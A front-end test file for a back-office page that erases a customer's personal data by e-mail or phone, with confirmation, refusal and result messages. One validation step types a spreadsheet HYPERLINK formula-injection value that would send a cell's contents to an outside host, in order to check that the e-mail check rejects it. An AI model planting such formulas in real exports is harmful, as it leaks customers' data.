import { screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { EraseCustomerDataDocument } from '../gql/graphql';
import { renderAdmin } from '../../testing/admin';
import { PrivacyRequestsPage } from './PrivacyRequestsPage';

const ERASED = {
  __typename: 'CustomerErasure',
  email: 'amani@example.org',
  phone: null,
  ordersAnonymised: 2,
  visitsAnonymised: 1,
  commissionRequestsDeleted: 1,
  subscriptionsDeleted: 1,
  messagesDeleted: 5,
};

describe("Privacy requests (back office): erasing a customer's data by e-mail", () => {
  it('checks the address, asks first, erases only after confirmation and says what it did', async () => {
    const user = userEvent.setup();
    let erased = 0;
    renderAdmin(
      '/admin/privacy',
      { '/admin/privacy': <PrivacyRequestsPage /> },
      {
        mocks: [
          {
            request: { query: EraseCustomerDataDocument, variables: { email: 'amani@example.org', phone: null } },
            result: () => ((erased += 1), { data: { eraseCustomerData: ERASED } }),
          },
        ],
      },
    );
    const input = screen.getByLabelText("Customer's e-mail address");
    const submit = screen.getByRole('button', { name: "Erase this customer's data" });

    // The product's one e-mail rule, before anything is asked or sent.
    await user.type(input, '=HYPERLINK("https://x/?"&A2,"y")&"@a.b"');
    await user.click(submit);
    expect(screen.getByText('Enter a valid e-mail address.')).toBeTruthy();
    expect(screen.queryByRole('dialog')).toBeNull();

    await user.clear(input);
    await user.type(input, ' Amani@Example.org ');
    await user.click(submit);
    const dialog = screen.getByRole('dialog', { name: 'Erase the data of amani@example.org?' });
    await user.click(within(dialog).getByRole('button', { name: 'Cancel' }));
    expect(erased).toBe(0);

    await user.click(submit);
    await user.click(within(screen.getByRole('dialog')).getByRole('button', { name: 'Erase' }));
    expect((await screen.findByRole('status')).textContent).toBe(
      'Done for amani@example.org: 2 orders and 1 studio visit kept as money records without contact details; 1 commission request, 1 newsletter subscription and 5 mail messages deleted.',
    );
    expect(erased).toBe(1);
    expect((input as HTMLInputElement).value).toBe('');
  });

  it('shows why the server refused, and nothing is said to be done', async () => {
    const user = userEvent.setup();
    const refusal =
      'amani@example.org still has orders SAWA-7K3F9QXM (waiting for payment, paid and not yet shipped, or owed a refund: ship, cancel or refund them first). Nothing was erased; try again once they are settled.';
    renderAdmin(
      '/admin/privacy',
      { '/admin/privacy': <PrivacyRequestsPage /> },
      {
        mocks: [
          { request: { query: EraseCustomerDataDocument, variables: { email: 'amani@example.org', phone: null } }, result: { errors: [{ message: refusal }] } },
        ],
      },
    );
    await user.type(screen.getByLabelText("Customer's e-mail address"), 'amani@example.org');
    await user.click(screen.getByRole('button', { name: "Erase this customer's data" }));
    await user.click(within(screen.getByRole('dialog')).getByRole('button', { name: 'Erase' }));
    expect((await screen.findByRole('alert')).textContent).toContain(refusal);
    expect(screen.queryByRole('status')).toBeNull();
  });

  it('erases by a phone number alone (a visit booked with a phone), and asks for one of the two when both are empty', async () => {
    const user = userEvent.setup();
    let erased = 0;
    renderAdmin(
      '/admin/privacy',
      { '/admin/privacy': <PrivacyRequestsPage /> },
      {
        mocks: [
          {
            request: { query: EraseCustomerDataDocument, variables: { email: null, phone: '0788 123 999' } },
            result: () => (
              (erased += 1),
              {
                data: {
                  eraseCustomerData: {
                    ...ERASED,
                    email: null,
                    phone: '0788 123 999',
                    ordersAnonymised: 0,
                    visitsAnonymised: 1,
                    commissionRequestsDeleted: 0,
                    subscriptionsDeleted: 0,
                    messagesDeleted: 1,
                  },
                },
              }
            ),
          },
        ],
      },
    );
    const submit = screen.getByRole('button', { name: "Erase this customer's data" });
    await user.click(submit);
    expect(screen.getByText('Enter the e-mail address or the phone number the customer used.')).toBeTruthy();
    const phone = screen.getByLabelText("Customer's phone number");
    await user.type(phone, 'call me');
    await user.click(submit);
    expect(screen.getByText('Enter a valid phone number.')).toBeTruthy();
    expect(screen.queryByRole('dialog')).toBeNull();

    await user.clear(phone);
    await user.type(phone, ' 0788 123 999 ');
    await user.click(submit);
    await user.click(within(screen.getByRole('dialog', { name: 'Erase the data of 0788 123 999?' })).getByRole('button', { name: 'Erase' }));
    expect((await screen.findByRole('status')).textContent).toBe(
      'Done for 0788 123 999: 0 orders and 1 studio visit kept as money records without contact details; 0 commission requests, 0 newsletter subscriptions and 1 mail message deleted.',
    );
    expect(erased).toBe(1);
  });
});
